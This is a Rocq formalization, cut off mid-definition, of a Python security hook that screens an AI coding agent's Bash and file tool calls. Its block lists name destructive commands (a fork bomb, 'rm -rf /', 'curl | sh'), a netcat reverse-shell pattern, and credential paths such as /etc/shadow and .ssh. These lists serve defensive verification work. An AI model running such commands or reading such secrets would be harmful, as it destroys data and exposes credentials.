(** * security_hook.py: the PreToolUse security hook

    A shallow embedding of [claude-setup/hooks/security_hook.py] and the
    properties of its policy evaluator.

    Python text is modelled on the code points U+0000..U+00FF: a Rocq
    [ascii] is the code point with that number, a [string] is a Python
    [str] whose characters all lie in that range.  [str.lower],
    [str.isspace] and the case-insensitive matching of [re] are given
    their Python meaning on that range. *)

From Stdlib Require Import Bool Arith Lia List ZArith Ascii String.
From Stdlib Require Import DecimalString Permutation.
Import ListNotations.

Local Open Scope list_scope.
Local Open Scope string_scope.

#[local] Set Warnings "-register-all".

(** ** Characters *)

Module Char.

Definition code (c : ascii) : nat := nat_of_ascii c.

Definition in_range (lo hi : nat) (c : ascii) : bool :=
  (lo <=? code c)%nat && (code c <=? hi)%nat.

(** Upper-case letters of the range: A-Z and the Latin-1 letters
    U+00C0..U+00DE without the multiplication sign U+00D7. *)
Definition is_upper (c : ascii) : bool :=
  in_range 65 90 c
  || (in_range 192 222 c && negb (code c =? 215)%nat).

(** [str.lower] on one character: every upper-case letter of the range
    has its lower-case partner 32 code points above it. *)
Definition lower (c : ascii) : ascii :=
  if is_upper c then ascii_of_nat (code c + 32) else c.

(** The lower-case letters that have an upper-case partner inside the
    range (U+00B5, U+00DF and U+00FF have none there). *)
Definition is_lower (c : ascii) : bool :=
  in_range 97 122 c
  || (in_range 224 254 c && negb (code c =? 247)%nat).

Definition upper (c : ascii) : ascii :=
  if is_lower c then ascii_of_nat (code c - 32) else c.

(** [str.isspace] on one character, which is also what [str.strip] removes
    and what the pattern [\s] accepts: TAB..CR, FS..US, the space,
    NEL (U+0085) and the no-break space (U+00A0). *)
Definition isspace (c : ascii) : bool :=
  in_range 9 13 c || in_range 28 32 c || (code c =? 133)%nat || (code c =? 160)%nat.

(** [str.isprintable] on one character, as [repr] uses it. *)
Definition isprintable (c : ascii) : bool :=
  in_range 32 126 c || (in_range 161 255 c && negb (code c =? 173)%nat).

End Char.

(** ** Strings: the [str] methods the hook calls *)

Module Str.

Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c t => String (Char.lower c) (lower t)
  end.

Fixpoint lstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c t => if Char.isspace c then lstrip t else s
  end.

Fixpoint rstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c t =>
      match rstrip t with
      | EmptyString => if Char.isspace c then EmptyString else String c EmptyString
      | t' => String c t'
      end
  end.

(** [s.strip()] *)
Definition strip (s : string) : string := rstrip (lstrip s).

(** [s.startswith(p)] *)
Definition startswith (s p : string) : bool := prefix p s.

(** [sub in s] *)
Fixpoint contains (sub s : string) : bool :=
  prefix sub s
  || match s with
     | EmptyString => false
     | String _ t => contains sub t
     end.

(** [s.replace(old, new)] for a non-empty [old]: the occurrences of [old]
    are replaced from left to right, without overlap.  [skip] counts the
    characters of an occurrence still to be dropped. *)
Fixpoint replace_from (skip : nat) (old new s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c t =>
      match skip with
      | S k => replace_from k old new t
      | O =>
          if prefix old s
          then new ++ replace_from (length old - 1) old new t
          else String c (replace_from 0 old new t)
      end
  end.

Definition replace (s old new : string) : string := replace_from 0 old new s.

(** [sep.join(parts)] *)
Definition join (sep : string) (parts : list string) : string := concat sep parts.

(** Truth value of a string: non-empty. *)
Definition nonempty (s : string) : bool :=
  match s with EmptyString => false | _ => true end.

End Str.


(** ** Regular expressions: the part of [re] the catalog uses *)

Module Re.

(** One item of a bracketed character set. *)
Inductive set_item : Type :=
| ItemChar (c : ascii)            (* a single character *)
| ItemRange (lo hi : ascii)       (* [lo-hi] *)
| ItemSpace.                      (* [\s] inside a set *)

Inductive regex : Type :=
| Empty                                             (* the empty pattern *)
| Lit (c : ascii)                                   (* a literal character *)
| Dot                                               (* [.] : anything but a line feed *)
| Space                                             (* [\s] *)
| CharSet (negated : bool) (items : list set_item)  (* [[...]] and [[^...]] *)
| EndOfString                                       (* [$] *)
| Seq (r1 r2 : regex)
| Alt (r1 r2 : regex)
| Star (r : regex)
| Plus (r : regex)
| Opt (r : regex).

(** *** Compiling the pattern text *)

Definition is_alnum (c : ascii) : bool :=
  Char.in_range 48 57 c || Char.in_range 65 90 c || Char.in_range 97 122 c.

(** Characters with a meaning of their own in a pattern; [{], [}] and [^]
    are outside the supported part. *)
Definition is_special (c : ascii) : bool :=
  existsb (Ascii.eqb c)
    ["."; "$"; "^"; "*"; "+"; "?"; "{"; "}"; "["; "]"; "("; ")"; "|"; "\"]%char.

(** The items of a set up to the closing bracket.  A backslash before a
    character that is neither a letter nor a digit quotes it; [\s] is the
    whitespace class; other escapes, and a set that opens with a closing
    bracket, are outside the supported part. *)
Fixpoint parse_items (s : string) : option (list set_item * string) :=
  match s with
  | EmptyString => None
  | String "]" t => Some ([], t)
  | String "\" (String "s" t) =>
      match parse_items t with
      | Some (items, u) => Some (ItemSpace :: items, u)
      | None => None
      end
  | String "\" (String c t) =>
      if is_alnum c then None
      else match parse_items t with
           | Some (items, u) => Some (ItemChar c :: items, u)
           | None => None
           end
  | String "\" EmptyString => None
  | String lo (String "-" (String hi t)) =>
      if Ascii.eqb hi "]" then Some ([ItemChar lo; ItemChar "-"], t)
      else if Ascii.eqb hi "\" then None
      else if (Char.code hi <? Char.code lo)%nat then None
      else match parse_items t with
           | Some (items, u) => Some (ItemRange lo hi :: items, u)
           | None => None
           end
  | String c t =>
      match parse_items t with
      | Some (items, u) => Some (ItemChar c :: items, u)
      | None => None
      end
  end.

Definition parse_set (s : string) : option (regex * string) :=
  match s with
  | String "]" _ => None
  | String "^" (String "]" _) => None
  | String "^" t =>
      match parse_items t with
      | Some (items, u) => Some (CharSet true items, u)
      | None => None
      end
  | _ =>
      match parse_items s with
      | Some (items, u) => Some (CharSet false items, u)
      | None => None
      end
  end.

(** One repetition mark after an atom; a second mark in a row (lazy and
    possessive forms) is outside the supported part. *)
Definition parse_repeat (atom : regex) (s : string) : option (regex * string) :=
  let no_second (r : regex) (t : string) :=
    match t with
    | String "*" _ | String "+" _ | String "?" _ | String "{" _ => None
    | _ => Some (r, t)
    end in
  match s with
  | String "*" t => no_second (Star atom) t
  | String "+" t => no_second (Plus atom) t
  | String "?" t => no_second (Opt atom) t
  | String "{" _ => None
  | _ => Some (atom, s)
  end.

(** Recursive descent over the pattern text; [fuel] bounds the nesting and
    the number of atoms. *)
Fixpoint parse_alt (fuel : nat) (s : string) {struct fuel} : option (regex * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match parse_seq fuel' s with
      | Some (r1, String "|" t) =>
          match parse_alt fuel' t with
          | Some (r2, u) => Some (Alt r1 r2, u)
          | None => None
          end
      | other => other
      end
  end
with parse_seq (fuel : nat) (s : string) {struct fuel} : option (regex * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | EmptyString => Some (Empty, s)
      | String "|" _ => Some (Empty, s)
      | String ")" _ => Some (Empty, s)
      | _ =>
          match parse_atom fuel' s with
          | Some (atom, t) =>
              match parse_repeat atom t with
              | Some (r1, u) =>
                  match parse_seq fuel' u with
                  | Some (r2, v) => Some (Seq r1 r2, v)
                  | None => None
                  end
              | None => None
              end
          | None => None
          end
      end
  end
with parse_atom (fuel : nat) (s : string) {struct fuel} : option (regex * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | EmptyString => None
      | String "(" t =>
          match parse_alt fuel' t with
          | Some (r, String ")" u) => Some (r, u)
          | _ => None
          end
      | String "[" t => parse_set t
      | String "." t => Some (Dot, t)
      | String "$" t => Some (EndOfString, t)
      | String "\" (String "s" t) => Some (Space, t)
      | String "\" (String c t) => if is_alnum c then None else Some (Lit c, t)
      | String c t => if is_special c then None else Some (Lit c, t)
      end
  end.

(** [re.compile(pattern)]; [None] stands for [re.error] and for a pattern
    outside the supported part. *)
Definition compile (pattern : string) : option regex :=
  match parse_alt (3 * length pattern + 3) pattern with
  | Some (r, EmptyString) => Some r
  | _ => None
  end.

(** *** Matching *)

Definition line_feed : ascii := ascii_of_nat 10.

(** A literal against a subject character; under [re.IGNORECASE] both are
    compared after case folding. *)
Definition char_matches (ignorecase : bool) (c x : ascii) : bool :=
  if ignorecase then Ascii.eqb (Char.lower c) (Char.lower x) else Ascii.eqb c x.

Definition item_matches (ignorecase : bool) (x : ascii) (item : set_item) : bool :=
  match item with
  | ItemChar c => char_matches ignorecase c x
  | ItemRange lo hi =>
      if ignorecase
      then Char.in_range (Char.code lo) (Char.code hi) (Char.lower x)
           || Char.in_range (Char.code lo) (Char.code hi) (Char.upper x)
      else Char.in_range (Char.code lo) (Char.code hi) x
  | ItemSpace => Char.isspace x
  end.

(** [$] without [re.MULTILINE]: at the end of the subject, or just before
    a line feed that ends it. *)
Definition at_end (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c EmptyString => Ascii.eqb c line_feed
  | _ => false
  end.

Definition one_char (ok : ascii -> bool) (s : string) : list string :=
  match s with
  | String x t => if ok x then [t] else []
  | EmptyString => []
  end.

(** The remainders after zero or more rounds of [step], longest first the
    way a greedy repetition tries them.  A round that consumes nothing
    adds no remainder, so [fuel = length s] rounds are all there can be. *)
Fixpoint star_ends (step : string -> list string) (fuel : nat) (s : string) : list string :=
  match fuel with
  | O => [s]
  | S fuel' =>
      flat_map
        (fun t => if (length t <? length s)%nat then star_ends step fuel' t else [])
        (step s)
      ++ [s]
  end.

(** [ends r s]: every remainder of [s] that is left after [r] has matched
    at the start of [s]. *)
Fixpoint ends (ignorecase : bool) (r : regex) (s : string) : list string :=
  match r with
  | Empty => [s]
  | Lit c => one_char (char_matches ignorecase c) s
  | Dot => one_char (fun x => negb (Ascii.eqb x line_feed)) s
  | Space => one_char Char.isspace s
  | CharSet negated items =>
      one_char (fun x => xorb negated (existsb (item_matches ignorecase x) items)) s
  | EndOfString => if at_end s then [s] else []
  | Seq r1 r2 => flat_map (ends ignorecase r2) (ends ignorecase r1 s)
  | Alt r1 r2 => ends ignorecase r1 s ++ ends ignorecase r2 s
  | Star r1 => star_ends (ends ignorecase r1) (length s) s
  | Plus r1 =>
      flat_map (fun t => star_ends (ends ignorecase r1) (length t) t)
               (ends ignorecase r1 s)
  | Opt r1 => ends ignorecase r1 s ++ [s]
  end.

Definition matches_at (ignorecase : bool) (r : regex) (s : string) : bool :=
  match ends ignorecase r s with
  | [] => false
  | _ :: _ => true
  end.

(** A match starting at some position of the subject, the end included. *)
Fixpoint search_from (ignorecase : bool) (r : regex) (s : string) : bool :=
  matches_at ignorecase r s
  || match s with
     | EmptyString => false
     | String _ t => search_from ignorecase r t
     end.

(** The matching relation the functions above compute:
    [Matches ic r s t] when [r] matches a prefix of [s] and leaves [t]. *)
Inductive Matches (ic : bool) : regex -> string -> string -> Prop :=
| MEmpty s : Matches ic Empty s s
| MLit c x t : char_matches ic c x = true -> Matches ic (Lit c) (String x t) t
| MDot x t : Ascii.eqb x line_feed = false -> Matches ic Dot (String x t) t
| MSpace x t : Char.isspace x = true -> Matches ic Space (String x t) t
| MCharSet negated items x t :
    xorb negated (existsb (item_matches ic x) items) = true ->
    Matches ic (CharSet negated items) (String x t) t
| MEndOfString s : at_end s = true -> Matches ic EndOfString s s
| MSeq r1 r2 s t u : Matches ic r1 s t -> Matches ic r2 t u -> Matches ic (Seq r1 r2) s u
| MAltL r1 r2 s t : Matches ic r1 s t -> Matches ic (Alt r1 r2) s t
| MAltR r1 r2 s t : Matches ic r2 s t -> Matches ic (Alt r1 r2) s t
| MStarNil r s : Matches ic (Star r) s s
| MStarStep r s t u :
    Matches ic r s t -> Matches ic (Star r) t u -> Matches ic (Star r) s u
| MPlus r s t u : Matches ic r s t -> Matches ic (Star r) t u -> Matches ic (Plus r) s u
| MOptSome r s t : Matches ic r s t -> Matches ic (Opt r) s t
| MOptNone r s : Matches ic (Opt r) s s.

(** [re.search(pattern, s, flags)] as a truth value. *)
Definition search (pattern s : string) (ignorecase : bool) : bool :=
  match compile pattern with
  | Some r => search_from ignorecase r s
  | None => false
  end.

End Re.

(** ** Python values and exceptions *)

Module Py.

(** The values [json.loads] builds.  A float is carried by its [repr],
    which is all the hook can observe of it; a [dict] by its entries in
    insertion order, with string keys. *)
Inductive value : Type :=
| VNone
| VBool (b : bool)
| VInt (n : Z)
| VFloat (repr : string)
| VStr (s : string)
| VList (items : list value)
| VDict (entries : list (string * value)).

(** [type(v).__name__] *)
Definition type_name (v : value) : string :=
  match v with
  | VNone => "NoneType"
  | VBool _ => "bool"
  | VInt _ => "int"
  | VFloat _ => "float"
  | VStr _ => "str"
  | VList _ => "list"
  | VDict _ => "dict"
  end.

(** [bool(v)], the test of [if v:] *)
Definition truthy (v : value) : bool :=
  match v with
  | VNone => false
  | VBool b => b
  | VInt n => negb (n =? 0)%Z
  | VFloat r => negb (String.eqb r "0.0" || String.eqb r "-0.0")
  | VStr s => Str.nonempty s
  | VList items => match items with [] => false | _ => true end
  | VDict entries => match entries with [] => false | _ => true end
  end.

(** [v == s] for a string literal [s] *)
Definition eq_str (v : value) (s : string) : bool :=
  match v with
  | VStr t => String.eqb t s
  | _ => false
  end.

(** [v in [s1, s2, ...]] for string literals *)
Definition in_strs (v : value) (l : list string) : bool := existsb (eq_str v) l.

Fixpoint lookup (entries : list (string * value)) (key : string) : option value :=
  match entries with
  | [] => None
  | (k, v) :: rest => if String.eqb k key then Some v else lookup rest key
  end.

(** *** [repr] and [str] *)

Definition squote : ascii := ascii_of_nat 39.
Definition dquote : ascii := ascii_of_nat 34.
Definition backslash : ascii := ascii_of_nat 92.

Definition has_char (c : ascii) (s : string) : bool :=
  existsb (Ascii.eqb c) (list_ascii_of_string s).

Definition hex_digit (n : nat) : ascii :=
  if (n <? 10)%nat then ascii_of_nat (48 + n) else ascii_of_nat (87 + n).

Definition escape_char (quote c : ascii) : string :=
  if Ascii.eqb c quote || Ascii.eqb c backslash
  then String backslash (String c EmptyString)
  else if (Char.code c =? 9)%nat then String backslash "t"
  else if (Char.code c =? 10)%nat then String backslash "n"
  else if (Char.code c =? 13)%nat then String backslash "r"
  else if Char.isprintable c then String c EmptyString
  else String backslash
         (String "x" (String (hex_digit (Char.code c / 16))
                        (String (hex_digit (Char.code c mod 16)) EmptyString))).

Fixpoint escape (quote : ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c t => escape_char quote c ++ escape quote t
  end.

(** [repr(s)] of a string: single quotes, unless the text has a single
    quote and no double quote. *)
Definition repr_str (s : string) : string :=
  let quote := if has_char squote s && negb (has_char dquote s) then dquote else squote in
  String quote (escape quote s ++ String quote EmptyString).

(** [repr(v)] *)
Fixpoint repr (v : value) : string :=
  match v with
  | VNone => "None"
  | VBool true => "True"
  | VBool false => "False"
  | VInt n => NilZero.string_of_int (Z.to_int n)
  | VFloat r => r
  | VStr s => repr_str s
  | VList items => "[" ++ Str.join ", " (map repr items) ++ "]"
  | VDict entries =>
      "{" ++ Str.join ", " (map (fun kv => repr_str (fst kv) ++ ": " ++ repr (snd kv)) entries)
          ++ "}"
  end.

(** [str(v)]: the text itself for a string, [repr] otherwise. *)
Definition str (v : value) : string :=
  match v with
  | VStr s => s
  | _ => repr v
  end.

(** [f"{x}"] of a value that is a string or [None] *)
Definition format_opt (x : option string) : string :=
  match x with
  | Some s => s
  | None => "None"
  end.

(** *** Exceptions *)

(** The classes that can reach the handlers of [main]; all derive from
    [Exception].  [JSONDecodeError] is what [json.loads] raises on a text
    that is not a JSON document, [AttributeError] what a method call on a
    value without that method raises. *)
Inductive exn_class : Type :=
| JSONDecodeError
| AttributeError
| OtherException (name : string).

(** What ends a computation early: an exception with the text of
    [str(e)], or the [SystemExit] of [sys.exit(code)], which does not
    derive from [Exception]. *)
Inductive raised : Type :=
| Exc (cls : exn_class) (msg : string)
| SystemExit (code : Z).

Inductive result (A : Type) : Type :=
| Ok (a : A)
| Raise (e : raised).

Arguments Ok {A} a.
Arguments Raise {A} e.

Definition bind {A B : Type} (m : result A) (k : A -> result B) : result B :=
  match m with
  | Ok a => k a
  | Raise e => Raise e
  end.

(** [obj.name] on a value that has no such attribute *)
Definition no_attribute {A : Type} (v : value) (name : string) : result A :=
  Raise (Exc AttributeError
           ("'" ++ type_name v ++ "' object has no attribute '" ++ name ++ "'")).

(** [d.get(key)] and [d.get(key, default)]: only a [dict] has [get]. *)
Definition get (d : value) (key : string) (default : value) : result value :=
  match d with
  | VDict entries =>
      Ok (match lookup entries key with Some v => v | None => default end)
  | _ => no_attribute d "get"
  end.

(** [s.lower().strip()]: only a [str] has [lower]. *)
Definition lower_strip (s : value) : result string :=
  match s with
  | VStr t => Ok (Str.strip (Str.lower t))
  | _ => no_attribute s "lower"
  end.

(** *** A process: its diagnostic stream and how it ends *)

Definition io (A : Type) : Type := list string -> result A * list string.

Definition io_bind {A B : Type} (m : io A) (k : A -> io B) : io B :=
  fun err =>
    match m err with
    | (Ok a, err') => k a err'
    | (Raise e, err') => (Raise e, err')
    end.

Definition lift {A : Type} (r : result A) : io A := fun err => (r, err).

(** [print(line, file=sys.stderr)] *)
Definition print_stderr (line : string) : io unit :=
  fun err => (Ok tt, (err ++ [line])%list).

(** [sys.exit(code)] *)
Definition sys_exit {A : Type} (code : Z) : io A := fun err => (Raise (SystemExit code), err).

(** One [except] clause: which exceptions it takes, and its body given
    the text of the exception. *)
Definition handler (A : Type) : Type := (exn_class -> bool) * (string -> io A).

Fixpoint dispatch {A : Type} (handlers : list (handler A)) (cls : exn_class) (msg : string)
  : io A :=
  match handlers with
  | [] => fun err => (Raise (Exc cls msg), err)
  | (takes, body) :: rest => if takes cls then body msg else dispatch rest cls msg
  end.

(** [try: body  except ...]: the first clause whose class the exception
    is an instance of runs; [SystemExit] passes every clause. *)
Definition try_except {A : Type} (body : io A) (handlers : list (handler A)) : io A :=
  fun err =>
    match body err with
    | (Raise (Exc cls msg), err') => dispatch handlers cls msg err'
    | other => other
    end.

(** [except json.JSONDecodeError] *)
Definition is_JSONDecodeError (cls : exn_class) : bool :=
  match cls with
  | JSONDecodeError => true
  | _ => false
  end.

(** [except Exception] *)
Definition is_Exception (cls : exn_class) : bool := true.

(** What the operating system sees when the process is over. *)
Record outcome : Type := { stderr : list string; status : Z }.

(** Running a script body: it returns (status 0), exits with a status, or
    dies of an exception, which the interpreter reports on the diagnostic
    stream with status 1. *)
Definition run (body : io unit) : outcome :=
  match body [] with
  | (Ok tt, err) => {| stderr := err; status := 0 |}
  | (Raise (SystemExit code), err) => {| stderr := err; status := code |}
  | (Raise (Exc cls msg), err) =>
      {| stderr := (err ++ [("Traceback (most recent call last): " ++ msg)%string])%list;
         status := 1 |}
  end.

End Py.

Declare Scope py_scope.
Delimit Scope py_scope with py.
Notation "x <- m ;; k" := (Py.bind m (fun x => k))
  (at level 61, m at next level, right associativity) : py_scope.
Notation "' pat <- m ;; k" := (Py.bind m (fun x => match x with pat => k end))
  (at level 61, pat pattern, m at next level, right associativity) : py_scope.
Notation "x <~ m ;; k" := (Py.io_bind m (fun x => k))
  (at level 61, m at next level, right associativity) : py_scope.

Import Py.
Local Open Scope py_scope.

(** A [for] loop whose body may [return]: the first element for which it
    does decides the result. *)
Fixpoint for_return {A B : Type} (l : list A) (body : A -> option B) : option B :=
  match l with
  | [] => None
  | x :: rest =>
      match body x with
      | Some b => Some b
      | None => for_return rest body
      end
  end.

(** ** The pattern catalog *)

(** The elements of the set literal [DANGEROUS_COMMANDS]. *)
Definition DANGEROUS_COMMANDS : list string :=
  [ "rm -rf /";
    "dd if=/dev/zero";
    "mkfs";
    "fdisk";
    "format";
    "del /f /s /q";
    "rd /s /q";
    ":(){ :|:& };:";
    "curl | sh";
    "wget | sh";
    "chmod 777";
    "chmod -R 777";
    "sudo su";
    "su -" ].

Definition DANGEROUS_PATTERNS : list string :=
  [ "rm\s+-rf?\s+/[^/\s]*/?$";
    "dd\s+if=/dev/(zero|random|urandom)";
    "find\s+/.*-delete";
    ">(.*)/dev/(sd[a-z]|hd[a-z])";
    "curl.*\|\s*(sh|bash|zsh)";
    "wget.*\|\s*(sh|bash|zsh)";
    "nc\s+-[el].*\s+/bin/(sh|bash)";
    "python.*-c.*exec\(";
    "eval\s*\(";
    "exec\s*\(" ].

(** The elements of the set literal [SENSITIVE_PATHS]. *)
Definition SENSITIVE_PATHS : list string :=
  [ "/etc/passwd";
    "/etc/shadow";
    "/etc/sudoers";
    "/root";
    "/boot";
    "/sys";
    "/proc/sys";
    "/dev";
    "/etc/ssh";
    "/home/*/.ssh";
    "~/.ssh";
    "/var/log";
    "/etc/hosts";
    "/etc/crontab";
    "/var/spool/cron" ].

Definition SENSITIVE_PATH_PATTERNS : list string :=
  [ "/etc/.*";
    "/root/.*";
    "/boot/.*";
    "/sys/.*";
    "/proc/sys/.*";
    "/dev/.*";
    ".*/\.ssh/.*";
    "/var/log/.*";
    "/var/spool/cron/.*";
    ".*\.key$";
    ".*\.pem$";
    ".*\.p12$";
    ".*\.pfx$";
    ".*password.*";
    ".*secret.*";
    ".*token.*" ].

(** [DANGEROUS_COMMANDS] and [SENSITIVE_PATHS] are Python sets of strings:
    a [for] loop visits their elements in hash order, which the
    interpreter fixes when the process starts and which differs from one
    process to the next.  The program does not determine that order, so
    the evaluator takes it as a parameter: a [set_order] gives, for each
    of the two sets, the order in which its elements are visited. *)
Record set_order : Type := {
  commands_order : list string;
  commands_order_perm : Permutation commands_order DANGEROUS_COMMANDS;
  paths_order : list string;
  paths_order_perm : Permutation paths_order SENSITIVE_PATHS
}.

(** The order in which the source text lists the elements. *)
Definition listed_order : set_order :=
  {| commands_order := DANGEROUS_COMMANDS;
     commands_order_perm := Permutation_refl DANGEROUS_COMMANDS;
     paths_order := SENSITIVE_PATHS;
     paths_order_perm := Permutation_refl SENSITIVE_PATHS |}.

(** The opposite order. *)
Definition reversed_order : set_order :=
  {| commands_order := rev DANGEROUS_COMMANDS;
     commands_order_perm := Permutation_sym (Permutation_rev DANGEROUS_COMMANDS);
     paths_order := rev SENSITIVE_PATHS;
     paths_order_perm := Permutation_sym (Permutation_rev SENSITIVE_PATHS) |}.

(** ** The policy evaluator *)

Definition verdict : Type := (bool * string)%type.

(** [check_dangerous_command(command)] *)
Definition check_dangerous_command (o : set_order) (command : value)
  : result (bool * option string) :=
  command_lower <- lower_strip command ;;
  (* Check exact matches *)
  match for_return (commands_order o)
          (fun dangerous_cmd =>
             if Str.contains dangerous_cmd command_lower
             then Some (true, Some ("Dangerous command detected: " ++ dangerous_cmd))
             else None)
  with
  | Some returned => Ok returned
  | None =>
      (* Check patterns *)
      match for_return DANGEROUS_PATTERNS
              (fun pattern =>
                 if Re.search pattern (str command) true
                 then Some (true, Some ("Dangerous command pattern detected: " ++ pattern))
                 else None)
      with
      | Some returned => Ok returned
      | None => Ok (false, None)
      end
  end.

(** [check_sensitive_path(path)] *)
Definition check_sensitive_path (o : set_order) (path : value) : bool * option string :=
  let path_str := Str.lower (str path) in
  (* Check exact matches *)
  match for_return (paths_order o)
          (fun sensitive_path =>
             if Str.contains (Str.replace sensitive_path "*" "") path_str
                || Str.startswith path_str (Str.replace sensitive_path "/*" "")
             then Some (true, Some ("Access to sensitive path: " ++ sensitive_path))
             else None)
  with
  | Some returned => returned
  | None =>
      (* Check patterns *)
      match for_return SENSITIVE_PATH_PATTERNS
              (fun pattern =>
                 if Re.search pattern path_str true
                 then Some (true, Some ("Access to sensitive path pattern: " ++ pattern))
                 else None)
      with
      | Some returned => returned
      | None => (false, None)
      end
  end.

(** The body shared by the path branches of [validate_tool_call]:
    [if path: is_sensitive, reason = check_sensitive_path(path);
     if is_sensitive: return False, f"{blocked}: {reason}"].
    [Some] is a [return], [None] falls through. *)
Definition check_subject (o : set_order) (blocked : string) (path : value) : option verdict :=
  if truthy path then
    let '(is_sensitive, reason) := check_sensitive_path o path in
    if is_sensitive then Some (false, blocked ++ ": " ++ format_opt reason) else None
  else None.

(** [validate_tool_call(tool_data)] *)
Definition validate_tool_call (o : set_order) (tool_data : value) : result verdict :=
  tool_name <- get tool_data "tool" VNone ;;
  parameters <- get tool_data "parameters" (VDict []) ;;
  returned <-
    (if eq_str tool_name "Bash" then
       command <- get parameters "command" (VStr "") ;;
       ' (is_dangerous, reason) <- check_dangerous_command o command ;;
       if is_dangerous : bool
       then Ok (Some (false, "Blocked dangerous Bash command: " ++ format_opt reason))
       else Ok None
     else if in_strs tool_name ["Read"; "Write"; "Edit"; "MultiEdit"] then
       file_path <- get parameters "file_path" (VStr "") ;;
       Ok (check_subject o "Blocked access to sensitive file" file_path)
     else if eq_str tool_name "Glob" then
       pattern <- get parameters "pattern" (VStr "") ;;
       path <- get parameters "path" (VStr "") ;;
       Ok (for_return [pattern; path]
             (check_subject o "Blocked glob access to sensitive path"))
     else if eq_str tool_name "Grep" then
       path <- get parameters "path" (VStr "") ;;
       Ok (check_subject o "Blocked grep access to sensitive path" path)
     else if eq_str tool_name "LS" then
       path <- get parameters "path" (VStr "") ;;
       Ok (check_subject o "Blocked directory listing of sensitive path" path)
     else Ok None) ;;
  match returned with
  | Some v => Ok v
  | None => Ok (true, "Operation allowed")
  end.

(** ** The process edge *)

(** What [json.loads(sys.stdin.read())] evaluates to: a value, or an
    exception with its class and text. *)
Inductive load : Type :=
| Loaded (tool_data : value)
| LoadFailed (cls : exn_class) (msg : string).

Definition json_loads (input : load) : result value :=
  match input with
  | Loaded tool_data => Ok tool_data
  | LoadFailed cls msg => Raise (Exc cls msg)
  end.

(** [main()] *)
Definition main (o : set_order) (input : load) : io unit :=
  try_except
    (tool_data <~ lift (json_loads input) ;;
     safe <~ lift (validate_tool_call o tool_data) ;;
     let '(is_safe, message) := safe in
     if negb is_safe then
       _ <~ print_stderr ("SECURITY BLOCK: " ++ message) ;;
       sys_exit 1
     else
       sys_exit 0)
    [ (is_JSONDecodeError,
       fun e => _ <~ print_stderr ("Error parsing hook input: " ++ e) ;; sys_exit 1);
      (is_Exception,
       fun e => _ <~ print_stderr ("Security hook error: " ++ e) ;; sys_exit 0) ].

(** The hook run as a script. *)
Definition run_hook (o : set_order) (input : load) : outcome := run (main o input).

(** An invocation record [{"tool": tool, "parameters": {...}}]. *)
Definition invocation (tool : string) (parameters : list (string * value)) : value :=
  VDict [("tool", VStr tool); ("parameters", VDict parameters)].

(** ** Vocabulary of the statements *)

(** An exact command rule occurs in the folded, stripped command text. *)
Definition exact_command_hit (command rule : string) : bool :=
  Str.contains rule (Str.strip (Str.lower command)).

(** A command some rule of the catalog takes, whatever rule that is. *)
Definition dangerous (command : string) : bool :=
  existsb (exact_command_hit command) DANGEROUS_COMMANDS
  || existsb (fun pattern => Re.search pattern command true) DANGEROUS_PATTERNS.

(** The test the evaluator applies to one exact path rule. *)
Definition exact_path_hit (path_str rule : string) : bool :=
  Str.contains (Str.replace rule "*" "") path_str
  || Str.startswith path_str (Str.replace rule "/*" "").

(** A subject some path rule of the catalog takes. *)
Definition sensitive (path : value) : bool :=
  existsb (exact_path_hit (Str.lower (str path))) SENSITIVE_PATHS
  || existsb (fun pattern => Re.search pattern (Str.lower (str path)) true)
       SENSITIVE_PATH_PATTERNS.

(** The tool identifiers [validate_tool_call] has a branch for. *)
Definition recognized_tools : list string :=
  ["Bash"; "Read"; "Write"; "Edit"; "MultiEdit"; "Glob"; "Grep"; "LS"].

(** The path-checked tools, each with a parameter it takes its subject
    from. *)
Definition path_subjects : list (string * string) :=
  [ ("Read", "file_path"); ("Write", "file_path"); ("Edit", "file_path");
    ("MultiEdit", "file_path"); ("Glob", "pattern"); ("Glob", "path");
    ("Grep", "path"); ("LS", "path") ].

(** The record [d] names the tool [tool] and carries the parameter
    mapping [ps]; a record without a ["parameters"] key carries the empty
    mapping. *)
Definition calls (d : list (string * value)) (tool : string) (ps : list (string * value))
  : Prop :=
  lookup d "tool" = Some (VStr tool)
  /\ (lookup d "parameters" = Some (VDict ps)
      \/ (lookup d "parameters" = None /\ ps = [])).

(** The allowed flag of an evaluation, or the exception it raises. *)
Definition allowed_of (r : result verdict) : result bool :=
  match r with
  | Ok (allowed, _) => Ok allowed
  | Raise e => Raise e
  end.

Definition is_str (v : value) : bool :=
  match v with
  | VStr _ => true
  | _ => false
  end.




(** ** Vocabulary of the further statements *)

Fixpoint last_char (s : string) : option ascii :=
  match s with
  | EmptyString => None
  | String c EmptyString => Some c
  | String _ t => last_char t
  end.

(** A text that neither begins nor ends with white space, and is not
    empty. *)
Definition unspaced_ends (s : string) : bool :=
  match s, last_char s with
  | String x _, Some y => negb (Char.isspace x) && negb (Char.isspace y)
  | _, _ => false
  end.

(** [parameters.get(field, '')] *)
Definition field_value (ps : list (string * value)) (field : string) : value :=
  match lookup ps field with
  | Some v => v
  | None => VStr ""
  end.

(** The parameters a tool's branch of [validate_tool_call] reads, in the
    order it checks them; none for a tool it has no branch for. *)
Definition subject_fields (tool : string) : list string :=
  if String.eqb tool "Bash" then ["command"]
  else if existsb (String.eqb tool) ["Read"; "Write"; "Edit"; "MultiEdit"] then ["file_path"]
  else if String.eqb tool "Glob" then ["pattern"; "path"]
  else if String.eqb tool "Grep" then ["path"]
  else if String.eqb tool "LS" then ["path"]
  else [].

(** A path subject that does not deny: falsy, or taken by no path rule. *)
Definition clean (v : value) : bool := negb (truthy v && sensitive v).

Definition is_dict (v : value) : bool :=
  match v with
  | VDict _ => true
  | _ => false
  end.

(** The text of the [AttributeError] a malformed record runs into, if it
    does: a record that is no mapping; a recognized tool whose
    ["parameters"] is no mapping; a Bash ["command"] that is no string. *)
Definition fault_of (tool_data : value) : option string :=
  match tool_data with
  | VDict d =>
      let tool_name := match lookup d "tool" with Some v => v | None => VNone end in
      let parameters := match lookup d "parameters" with Some v => v | None => VDict [] end in
      if in_strs tool_name recognized_tools then
